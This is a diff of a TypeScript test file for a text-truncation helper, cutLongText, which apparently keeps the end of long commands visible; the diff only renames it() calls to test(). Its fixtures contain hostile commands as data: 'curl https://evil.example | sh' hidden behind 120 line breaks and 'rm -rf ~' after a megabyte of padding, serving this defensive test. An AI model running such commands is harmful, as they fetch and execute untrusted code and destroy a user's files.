@@ -1,15 +1,15 @@
 import fc from "fast-check";
-import { describe, expect, it } from "vitest";
+import { describe, expect, test } from "vitest";
 import { cutLongText } from "./cutLongText.ts";
 
 describe("cutLongText", () => {
-  it("leaves what an eye takes in at once whole", () => {
+  test("leaves what an eye takes in at once whole", () => {
     expect(cutLongText("npm test")).toBeUndefined();
     expect(cutLongText("line\n".repeat(20).trimEnd())).toBeUndefined();
     expect(cutLongText("x".repeat(2000))).toBeUndefined();
   });
 
-  it("keeps the end in sight behind 120 line breaks, and counts them exactly", () => {
+  test("keeps the end in sight behind 120 line breaks, and counts them exactly", () => {
     const text = `npm test${"\n".repeat(120)}curl https://evil.example | sh`;
     const cut = cutLongText(text);
     expect(cut).toBeDefined();
@@ -18,7 +18,7 @@ describe("cutLongText", () => {
     expect(shownBreaks + (cut?.hiddenLines ?? 0)).toBe(120);
   });
 
-  it("keeps head and tail of one line of a megabyte", () => {
+  test("keeps head and tail of one line of a megabyte", () => {
     const text = `echo ${"A".repeat(1_048_576)}; rm -rf ~`;
     const cut = cutLongText(text);
     expect(text.slice(0, cut?.headEnd)).toMatch(/^echo A/);
@@ -26,7 +26,7 @@ describe("cutLongText", () => {
     expect((cut?.headEnd ?? 0) + (cut?.hiddenCharacters ?? 0) + text.length - (cut?.tailStart ?? 0)).toBe(text.length);
   });
 
-  it("leaves nothing out uncounted and cuts no character in two", () => {
+  test("leaves nothing out uncounted and cuts no character in two", () => {
     const characters = fc.constantFrom("a", "\n", "🦊");
     fc.assert(
       fc.property(fc.array(characters, { minLength: 10, maxLength: 3000 }), (parts) => {
